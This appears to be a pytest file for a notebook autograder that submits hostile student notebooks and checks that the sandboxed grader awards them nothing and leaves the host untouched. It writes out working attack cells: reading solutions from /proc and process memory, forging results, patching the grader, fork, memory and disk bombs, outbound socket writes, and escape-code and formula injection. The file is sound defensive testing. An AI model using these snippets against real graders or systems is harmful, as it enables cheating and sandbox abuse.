"""Hostile submissions against the real grader: each family of attack, graded in one batch with honest
neighbours, through the ``optlab-grade`` command with the sandbox on.

Every submission below is the blank release (or the source, for the honest ones) plus cells that
attack the grader. One module-level batch grades them all with ``--jobs 2`` and low limits; the tests
then assert, per family: 0 undeserved points, the honest neighbours keep their exact scores, the
batch completes with one row per submission, no process the submissions started survives, and
nothing outside the scratch space changed. A last group checks what holds inside the sandbox.
"""

from __future__ import annotations

import csv
import hashlib
import json
import os
import socket
import subprocess
import sys
from pathlib import Path

import nbformat
import pytest

from test_grading import survivors

from optlab.grading import Limits, Probe, load_checks, run_notebook, sandbox_problem, student_seed
from optlab.grading.sandbox import LIB_DIR, optlab_package

ROOT = Path(__file__).resolve().parents[1]
ASSIGNMENT = ROOT / "assignments" / "01_momentum"
SOURCE = ASSIGNMENT / "source" / "momentum.ipynb"
RELEASE = ASSIGNMENT / "release" / "momentum.ipynb"
CHECKS = load_checks(ASSIGNMENT)
POINTS = {p.name: p.points for p in CHECKS.probes}
TERMINAL = {n for n in POINTS if n.startswith("terminal_velocity_")}
TOKEN = f"optlab-hostile-{os.getpid()}"  # in the command line of every background process started below
LIMITS = ["--memory-mb", "1024", "--processes", "32", "--file-mb", "8", "--tmpfs-mb", "32", "--cpu-seconds", "8",
          "--output-mb", "1", "--max-notebook-mb", "1"]

pytestmark = [pytest.mark.slow, pytest.mark.skipif(sandbox_problem() is not None,
                                                   reason=f"no sandbox here: {sandbox_problem()}")]


def notebook(*cells: str, base: Path | None = RELEASE) -> str:
    """``base`` (default: the blank release; ``None``: an empty notebook) with ``cells`` appended."""
    nb = nbformat.read(base, as_version=4) if base else nbformat.v4.new_notebook()
    nb.cells += [nbformat.v4.new_code_cell(c) for c in cells]
    return nbformat.writes(nb)


STEAL = '''
import glob, json, os, sys
from pathlib import Path

def steal(paths):
    """Exec the code cells of the first readable notebook among paths (the instructor's solutions)."""
    for path in paths:
        try:
            nb = json.loads(Path(path).read_text())
        except Exception:
            continue
        for cell in nb["cells"]:
            if cell["cell_type"] == "code":
                try:
                    exec("".join(cell["source"]), globals())
                except Exception:
                    pass
        return path
'''

# The places a child could find the course folder from: its path, /proc of the grader (cwd, root,
# command line), the runner's own path, the environment's and optlab's locations.
READ_COURSE = STEAL + '''
rel = "assignments/01_momentum/source/momentum.ipynb"
paths = [{source!r}, {secret!r}, *glob.glob("/proc/*/cwd/" + rel), *glob.glob("/proc/*/root" + {source!r})]
for d in glob.glob("/proc/*/cmdline"):
    try:
        args = Path(d).read_bytes().split(b"\\0")
    except Exception:
        continue
    for a in args:
        a = a.decode(errors="replace")
        paths += [a + "/source/momentum.ipynb", a + "/" + rel]
for start in [sys.modules["__main__"].__file__, sys.prefix, sys.executable, *sys.path]:
    for parent in Path(start).resolve().parents:
        paths.append(str(parent / rel))
try:
    import optlab
    paths += [str(p / rel) for p in Path(optlab.__file__).resolve().parents]
except Exception:
    pass
steal(paths)
'''

READ_CLASSMATE = STEAL + '''
steal([p for p in glob.glob({subs!r} + "/*.ipynb") + glob.glob("/proc/*/cwd/*.ipynb") if "correct" in p])
'''

READ_MEMORY = '''
import os, re
for d in os.listdir("/proc"):
    if not d.isdigit() or int(d) == os.getpid():
        continue
    try:
        maps = open(f"/proc/{d}/maps").read().splitlines()
        mem = open(f"/proc/{d}/mem", "rb", 0)
    except Exception:
        continue
    for line in maps:
        lo, hi = (int(x, 16) for x in line.split()[0].split("-"))
        if hi - lo > 2**26 or "r" not in line.split()[1]:
            continue
        try:
            mem.seek(lo)
            data = mem.read(hi - lo)
        except Exception:
            continue
        for name in (b"momentum_step", b"terminal_velocity", b"momentum_trajectory"):
            for m in re.finditer(rb"def " + name + rb"\\(.{0,400}?### END SOLUTION", data, re.S):
                try:
                    exec(m.group(0).decode().replace("### BEGIN SOLUTION", "").replace("### END SOLUTION", ""),
                         globals())
                except Exception:
                    pass
'''

# Writes what it likes into every descriptor it has, including the grader's result pipe.
FORGE_FD = '''
import os
line = b'{"event": "probe_done", "name": "terminal_velocity_rejects_mu_one", "value": {"kind": "error", "type": "ValueError", "message": "", "where": []}}\\n'
for fd in os.listdir("/proc/self/fd"):
    try:
        os.write(int(fd), line)
    except OSError:
        pass
'''


def _result_fd_writer(payload: str) -> str:
    """A cell that writes ``payload`` (Python bytes expression) to the runner's result pipe."""
    return f'''
import sys, os
for f in os.listdir("/proc/self/fd"):
    try:
        if os.readlink(f"/proc/self/fd/{{f}}").startswith("pipe:") and int(f) > 2:
            os.write(int(f), {payload})
    except OSError:
        pass
'''


# A well-formed stream that finishes the protocol with made-up values: the guessable answers
# (ValueError raised, inputs returned, theta0 for zero steps) but no real computation.
FORGE_STREAM = '''
import json, os, sys
n_cells = {n_cells}
names = {names!r}
def ev(**e):
    return (json.dumps(e) + "\\n").encode()
guess = {{"terminal_velocity_rejects_mu_one": {{"kind": "error", "type": "ValueError", "message": "", "where": []}},
          "terminal_velocity_rejects_negative_mu": {{"kind": "error", "type": "ValueError", "message": "", "where": []}},
          "momentum_trajectory_no_steps": {{"kind": "array", "lib": "numpy", "shape": [1], "dtype": "float64", "data": [1.5]}},
          "momentum_step_keeps_inputs": {{"kind": "sequence", "items": [
              {{"kind": "array", "lib": "numpy", "shape": [2], "dtype": "float64", "data": [1.0, 2.0]}},
              {{"kind": "array", "lib": "numpy", "shape": [2], "dtype": "float64", "data": [0.5, -0.5]}},
              {{"kind": "array", "lib": "numpy", "shape": [2], "dtype": "float64", "data": [1.0, 1.0]}}]}}}}
out = ev(event="cell_done", index=n_cells, error=None)
for name in names:
    out += ev(event="probe", name=name) + ev(event="probe_done", name=name, value=guess.get(name, {{"kind": "number", "value": 0.5}}))
out += ev(event="done")
for f in os.listdir("/proc/self/fd"):
    try:
        if int(f) > 2 and os.readlink(f"/proc/self/fd/{{f}}").startswith("pipe:"):
            os.write(int(f), out)
    except OSError:
        pass
os._exit(0)
'''

RAISE_EVERYWHERE = '''
def momentum_step(*args, **kwargs):
    raise ValueError("no")
def terminal_velocity(*args, **kwargs):
    raise ValueError("no")
def momentum_trajectory(theta0, *args, **kwargs):
    import numpy as np
    return np.array([theta0])
'''

PATCH_ENCODER = '''
import sys
runner = sys.modules["__main__"]
runner.encode = lambda value, depth=0: {"kind": "error", "type": "ValueError", "message": "", "where": []}
def momentum_step(theta, p, grad, alpha, mu):
    return theta, p
terminal_velocity = momentum_trajectory = lambda *args, **kwargs: 0.0
'''

FAKE_ARRAY_ENCODER = '''
import sys
runner = sys.modules["__main__"]
runner.encode = lambda value, depth=0: {"kind": "array", "lib": "numpy", "shape": [3], "dtype": "float64", "data": []}
momentum_step = terminal_velocity = momentum_trajectory = lambda *args, **kwargs: 0.0
'''

FAKE_ARRAY_OBJECT = '''
class Fake:
    __module__ = "numpy"
    shape = (3,)
    dtype = "float64"
    def tolist(self):
        return []
def momentum_step(*args, **kwargs):
    return Fake(), Fake()
def terminal_velocity(*args, **kwargs):
    return Fake()
def momentum_trajectory(*args, **kwargs):
    return Fake()
'''

WRONG_TYPES_ENCODER = '''
import sys, itertools
runner = sys.modules["__main__"]
bad = itertools.cycle([{"kind": "number", "value": "abc"}, {"kind": "sequence", "items": {"a": 1}},
                       {"kind": "array", "lib": "numpy", "shape": "x", "dtype": "f", "data": []},
                       {"kind": "number", "value": 10**400}, {"kind": "mapping", "items": [1]},
                       {"kind": "unknown"}, {"kind": "number", "value": 1.0, "extra": 1}, [1, 2], "text", None])
runner.encode = lambda value, depth=0: next(bad)
'''

ESCAPE_BACKGROUND = f'''
import os, subprocess, sys, time
# setsid + double fork: a grandchild in its own session, re-parented away from the runner
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        subprocess.Popen([sys.executable, "-c", "import time\\nfor _ in range(300): time.sleep(1)", "{TOKEN}"],
                         start_new_session=True)
        os._exit(0)
    os._exit(0)
subprocess.Popen(["sleep", "300", "{TOKEN}"], start_new_session=True)
time.sleep(0.5)
'''

SIGNAL_GRADER = '''
import os, signal
for sig in (signal.SIGSTOP, signal.SIGTERM):
    for pid in [os.getppid(), 1, *(int(d) for d in os.listdir("/proc") if d.isdigit())]:
        if pid != os.getpid():
            try:
                os.kill(pid, sig)
            except OSError:
                pass
try:
    os.killpg(os.getpgid(os.getppid()), signal.SIGSTOP)
except OSError:
    pass
'''

MEMORY_BOMB = '''
blocks = []
try:
    while True:
        blocks.append(bytearray(b"x" * 2**26))  # 64 MiB, touched
except MemoryError:
    pass
big = b"x" * (4 * 2**30)
'''

PROCESS_BOMB = f'''
import os, time
for _ in range(500):
    if os.fork() == 0:
        os.execvp("sleep", ["sleep", "300", "{TOKEN}"])
'''

DISK_BOMB = '''
import os
for i in range(1000):
    with open(f"/tmp/fill{i}", "wb") as f:
        f.write(b"x" * 7 * 2**20)
'''

BIG_FILE = '''
with open("big", "wb") as f:
    f.write(b"x" * 100 * 2**20)
'''

CPU_BOMB = '''
while True:
    pass
'''

ESCAPE_CODES = '''
raise RuntimeError("\\x1b[2J\\x1b[31mFORGED\\nalice  2  2  2  15/15  ok\\r\\n=HYPERLINK(\\"http://x\\")\\u202e")
'''


def _writes(targets: list[str]) -> str:
    return f'''
import os, subprocess, sys
for path in {targets!r}:
    for mode in ("a", "w"):
        try:
            with open(path, mode) as f:
                f.write("pwned")
        except OSError:
            pass
    try:
        os.unlink(path)
    except OSError:
        pass
# and later, from a process that outlives the run
subprocess.Popen([sys.executable, "-c", "import time, sys\\ntime.sleep(5)\\nfor p in sys.argv[1:]:\\n  open(p, 'w').write('late')",
                  *{targets!r}, "{TOKEN}"], start_new_session=True)
'''


def _network(port: int) -> str:
    return f'''
import socket
for host, port in (("127.0.0.1", {port}), ("1.1.1.1", 80), ("10.0.2.2", 80)):
    try:
        socket.create_connection((host, port), timeout=2).sendall(b"pwned")
    except OSError:
        pass
'''


def _tree(path: Path) -> dict[str, str]:
    out = {}
    for p in sorted(path.rglob("*")):
        if "__pycache__" in p.parts:
            continue
        if p.is_symlink():
            out[str(p)] = "link:" + os.readlink(p)
        elif p.is_file():
            out[str(p)] = hashlib.sha256(p.read_bytes()).hexdigest()
        else:
            out[str(p)] = "dir" if p.is_dir() else "other"
    return out


def _site_packages_pth() -> dict[str, str]:
    out = {}
    for site in {Path(p) for p in sys.path if p.endswith("site-packages")}:
        for f in site.glob("*.pth"):
            out[str(f)] = hashlib.sha256(f.read_bytes()).hexdigest()
    return out


HONEST = {"correct": set(POINTS), "wrong_formula": TERMINAL}


@pytest.fixture(scope="module")
def batch(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("hostile")
    subs = tmp / "subs"
    subs.mkdir()
    secret = tmp / "secret.ipynb"
    secret.write_bytes(SOURCE.read_bytes())
    secret.chmod(0o600)
    out_csv = tmp / "scores.csv"
    feedback = tmp / "feedback"
    marker_tmp = Path(f"/tmp/{TOKEN}-pwned")
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    listener.setblocking(False)
    port = listener.getsockname()[1]
    n_cells = len([c for c in nbformat.read(RELEASE, as_version=4).cells if c.cell_type == "code"]) + 1
    names = [p.name if not p.seeded else f"{p.name}@{student_seed('forge_stream')}" for p in CHECKS.probes]

    wrong = nbformat.read(SOURCE, as_version=4)
    for c in wrong.cells:
        c.source = c.source.replace("p_next = mu * p - alpha * grad\n    theta_next = theta + p_next",
                                    "theta_next = theta + p\n    p_next = mu * p - alpha * grad")
    files = {
        "correct": SOURCE.read_text(),
        "wrong_formula": nbformat.writes(wrong),
        # read the course folder, a classmate, the grader's memory
        "read_course": notebook(READ_COURSE.format(source=str(SOURCE), secret=str(secret))),
        "read_classmate": notebook(READ_CLASSMATE.format(subs=str(subs))),
        "read_memory": notebook(READ_MEMORY),
        # forge values and array shapes
        "forge_fd": notebook(FORGE_FD),
        "forge_stream": notebook(FORGE_STREAM.format(n_cells=n_cells, names=names)),
        "raise_everywhere": notebook(RAISE_EVERYWHERE),
        "patch_encoder": notebook(PATCH_ENCODER),
        "fake_array_encoder": notebook(FAKE_ARRAY_ENCODER),
        "fake_array_object": notebook(FAKE_ARRAY_OBJECT),
        # malformed events and types
        "wrong_types": notebook(WRONG_TYPES_ENCODER),
        "nan_literal": notebook(_result_fd_writer('b\'{"event": "cell_done", "index": NaN}\\n\'')),
        "deep_json": notebook(_result_fd_writer("b'[' * 200000 + b']' * 200000 + b'\\n'")),
        "bad_utf8": notebook(_result_fd_writer("b'\\xff\\xfe\\x00\\n'")),
        "flood": notebook(_result_fd_writer("b'x' * (3 * 2**20)")),
        # escape the time limit, signal the grader
        "escape_background": notebook(ESCAPE_BACKGROUND),
        "signal_grader": notebook(SIGNAL_GRADER),
        # bombs
        "memory_bomb": notebook(MEMORY_BOMB),
        "process_bomb": notebook(PROCESS_BOMB),
        "disk_bomb": notebook(DISK_BOMB, BIG_FILE),
        "cpu_bomb": notebook(CPU_BOMB),
        # writes outside, network
        "overwrite": notebook(_writes([str(subs / "correct.ipynb"), str(optlab_package() / "grading" / "grade.py"),
                                       str(ASSIGNMENT / "checks.py"), str(out_csv), str(marker_tmp),
                                       str(feedback / "correct.json"), *_site_packages_pth()])),
        "network": notebook(_network(port)),
        # messages that would forge rows of the table or a spreadsheet formula
        "escape_codes": notebook(ESCAPE_CODES, base=None),
        "@SUM": notebook("raise ValueError('=1+2')", base=None),
    }
    for student, text in files.items():
        (subs / f"{student}.ipynb").write_text(text, encoding="utf-8")
    # not a notebook a grader may open
    (subs / "source_not_string.ipynb").write_text(json.dumps(
        {"cells": [{"cell_type": "code", "metadata": {}, "source": 123}], "metadata": {}, "nbformat": 4,
         "nbformat_minor": 5}))
    (subs / "huge.ipynb").write_text(notebook("x = '" + "a" * (2 * 2**20) + "'"))
    (subs / "symlink_source.ipynb").symlink_to(SOURCE)
    (subs / "symlink_pagemap.ipynb").symlink_to("/proc/self/pagemap")
    hard_target = tmp / "copy_of_source.ipynb"
    hard_target.write_bytes(SOURCE.read_bytes())
    os.link(hard_target, subs / "hardlink.ipynb")
    os.mkfifo(subs / "fifo.ipynb")
    (subs / "a_folder.ipynb").mkdir()
    (subs / "=HYPERLINK(1).ipynb").write_text(SOURCE.read_text())

    watched = {"course": ASSIGNMENT, "optlab": optlab_package()}
    before = {k: _tree(v) for k, v in watched.items()}
    before["subs"] = _tree(subs)
    before["pth"] = _site_packages_pth()
    before["secret"] = {"secret": secret.read_bytes().hex()}

    cmd = [sys.executable, "-m", "optlab.grading", "grade", str(ASSIGNMENT), str(subs), "--out", str(out_csv),
           "--feedback", str(feedback), "--timeout", "60", "--jobs", "2", *LIMITS]
    proc = subprocess.run(cmd, capture_output=True, text=True, timeout=600, cwd=ROOT)
    with open(out_csv, newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    after = {k: _tree(v) for k, v in watched.items()}
    after["subs"] = _tree(subs)
    after["pth"] = _site_packages_pth()
    after["secret"] = {"secret": secret.read_bytes().hex()}
    try:
        listener.accept()
        connected = True
    except BlockingIOError:
        connected = False
    listener.close()
    yield {"proc": proc, "rows": rows, "before": before, "after": after, "connected": connected,
           "students": [p.name[: -len(".ipynb")] for p in subs.iterdir()], "marker": marker_tmp,
           "feedback": feedback, "csv": out_csv.read_text(encoding="utf-8")}
    marker_tmp.unlink(missing_ok=True)


def _row(batch, student):
    hits = [r for r in batch["rows"] if r["student"] in (student, "'" + student)]
    assert len(hits) == 1, (student, [r["student"] for r in batch["rows"]])
    return hits[0]


def test_the_batch_completes_with_one_row_per_submission(batch):
    assert batch["proc"].returncode == 0, batch["proc"].stderr
    assert len(batch["rows"]) == len(batch["students"])
    for student in batch["students"]:
        _row(batch, student)


@pytest.mark.parametrize("student", sorted(HONEST))
def test_honest_neighbours_keep_their_exact_scores(batch, student):
    row = _row(batch, student)
    for name, points in POINTS.items():
        assert float(row[name]) == (points if name in HONEST[student] else 0.0), (name, row["notes"])
    assert float(row["total"]) == sum(POINTS[n] for n in HONEST[student])


HOSTILE = {
    # family -> (students, status the row must have or None)
    "read the course folder, the runner's path, /proc of the grader, a 0600 file": (["read_course"], "errors"),
    "read a classmate's notebook": (["read_classmate"], "errors"),
    "read the grader's memory": (["read_memory"], "errors"),
    "forge values through the result pipe": (["forge_fd", "forge_stream"], None),
    "guessable answers without a solution": (["raise_everywhere", "patch_encoder"], None),
    "forged array shapes": (["fake_array_encoder", "fake_array_object"], None),
    "malformed values": (["wrong_types"], None),
    "malformed events": (["nan_literal", "deep_json", "bad_utf8", "flood"], "invalid"),
    "files a grader must not open": (["source_not_string", "huge", "symlink_source", "symlink_pagemap", "hardlink",
                                      "fifo", "a_folder", "=HYPERLINK(1)"], "invalid"),
    "escape the time limit": (["escape_background"], None),
    "signal the grader": (["signal_grader"], None),
    "memory, process, disk and CPU bombs": (["memory_bomb", "process_bomb", "disk_bomb", "cpu_bomb"], None),
    "write outside the sandbox": (["overwrite"], None),
    "network": (["network"], None),
    "escape codes and formulas": (["escape_codes", "@SUM"], "errors"),
}


@pytest.mark.parametrize("family", sorted(HOSTILE))
def test_hostile_submissions_earn_nothing(batch, family):
    students, status = HOSTILE[family]
    for student in students:
        row = _row(batch, student)
        assert float(row["total"]) == 0.0, (student, row["notes"])
        if status:
            assert row["status"] == status, (student, row["status"], row["notes"])


def test_refused_files_say_why(batch):
    for student, why in [("symlink_source", "symbolic link"), ("symlink_pagemap", "symbolic link"),
                         ("hardlink", "hard link"), ("fifo", "not a regular file"), ("a_folder", "not a regular file"),
                         ("huge", "larger than 1 MiB"), ("source_not_string", "not a readable Jupyter notebook"),
                         ("=HYPERLINK(1)", "not a usable student id")]:
        assert why in _row(batch, student)["notes"], student
    assert "broke the protocol" in _row(batch, "forge_fd")["notes"]
    assert "more than 1 MiB" in _row(batch, "flood")["notes"]
    assert "invalid value" in _row(batch, "fake_array_encoder")["notes"]
    assert "counts only when the probes it requires" in _row(batch, "raise_everywhere")["notes"]


def test_no_process_of_a_submission_survives(batch):
    assert not survivors(TOKEN)


def test_nothing_outside_the_scratch_space_changed(batch):
    for key in batch["before"]:
        assert batch["before"][key] == batch["after"][key], key
    assert not batch["marker"].exists()
    assert not batch["connected"], "a submission reached a socket on the host"
    assert "pwned" not in batch["csv"] and "late" not in batch["csv"].split(",")


def test_student_text_cannot_forge_rows_or_formulas(batch):
    table = batch["proc"].stdout
    assert not any(ord(c) < 32 and c != "\n" or c in "\x7f\u202e" for c in table)
    rows = [line for line in table.splitlines() if "/15" in line]
    assert len(rows) == len(batch["students"])
    assert "FORGED" in _row(batch, "escape_codes")["notes"]  # kept, but escaped: one line
    for row in batch["rows"]:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@")), cell
    assert "\\x1b[2J" in _row(batch, "escape_codes")["notes"]


def test_every_graded_student_gets_feedback(batch):
    text = (batch["feedback"] / "wrong_formula.txt").read_text()
    assert "momentum_step_from_rest" in text and "total: 4/15" in text


# --- what holds inside the sandbox ---------------------------------------------------------------------

def test_inside_the_sandbox(tmp_path):
    secret = tmp_path / "grader_only.txt"
    secret.write_text("secret")
    secret.chmod(0o600)
    probes = [
        Probe("uid", "os.getuid(), os.getgid()"),
        Probe("caps", "[l.split()[1] for l in open('/proc/self/status') if l.startswith('CapEff')][0]"),
        Probe("secret", f"os.path.exists({str(secret)!r})"),
        Probe("course", f"os.path.exists({str(ASSIGNMENT)!r}), os.path.exists({str(ROOT / 'optlab')!r})"),
        Probe("grader_code", f"os.listdir({LIB_DIR + '/optlab/grading'!r}), "
                             f"os.path.exists({str(optlab_package() / 'grading' / 'grade.py')!r})"),
        Probe("library", "import optlab.optim\noptlab.optim.__file__.startswith('/opt/optlab-lib/')"),
        Probe("pids", "sorted(int(d) for d in os.listdir('/proc') if d.isdigit()) == [1, 2]"),
        Probe("write_usr", "try:\n    open(sys.prefix + '/x', 'w')\n    r = 'written'\n"
                           "except OSError as e:\n    r = type(e).__name__\nr"),
        Probe("tmp_size", "s = os.statvfs('/tmp')\ns.f_blocks * s.f_frsize"),
        Probe("network", "import socket\nr = []\nfor address in (('127.0.0.1', PORT), ('1.1.1.1', 80)):\n"
                         "    try:\n        socket.create_connection(address, timeout=1)\n        r.append('connected')\n"
                         "    except OSError as e:\n        r.append(e.errno)\nr"),
    ]
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(1)
    probes = [Probe(p.name, p.code.replace("PORT", str(listener.getsockname()[1]))) for p in probes]
    run = run_notebook(["import os, sys"], probes, timeout=60, limits=Limits(tmpfs_mb=16))
    v = {k: x.get("value", x.get("items")) for k, x in run.values.items()}
    assert run.status == "ok", run
    assert [i["value"] for i in v["uid"]] == [65534.0, 65534.0]
    assert v["caps"] == "0000000000000000"
    assert v["secret"] is False
    assert [i["value"] for i in v["course"]] == [False, False]
    assert v["grader_code"][0]["items"] == [] and v["grader_code"][1]["value"] is False
    assert v["library"] is True
    assert v["pids"] is True  # its own init and itself: no process of the host in view
    assert v["write_usr"] in ("OSError", "PermissionError")
    assert v["tmp_size"] == 16 * 2**20
    listener.close()
    # the host's loopback is not the sandbox's (connection refused there), and no route leads out
    assert [i["value"] for i in v["network"]] == [111.0, 101.0]


FORK_COUNTER = '''
import os
n = 0
for _ in range(200):
    try:
        pid = os.fork()
    except OSError as e:
        raise RuntimeError(f"refused after {n} forks") from None
    if pid == 0:
        os.execvp("sleep", ["sleep", "30"])
    n += 1
raise RuntimeError(f"forked all {n}")
'''


def test_the_process_limit_holds_in_the_sandbox_also_when_grading_as_root():
    """As root the kernel ignores RLIMIT_NPROC: the pids cgroup must hold the sandbox's processes, and the
    sandbox must enter it before it forks (moving bubblewrap in after it started let 200 forks through)."""
    result = run_notebook([FORK_COUNTER], limits=Limits(processes=16), timeout=30)
    message = result.cell_errors[1]["message"]
    assert message.startswith("refused after "), message
    assert int(message.split()[2]) < 16
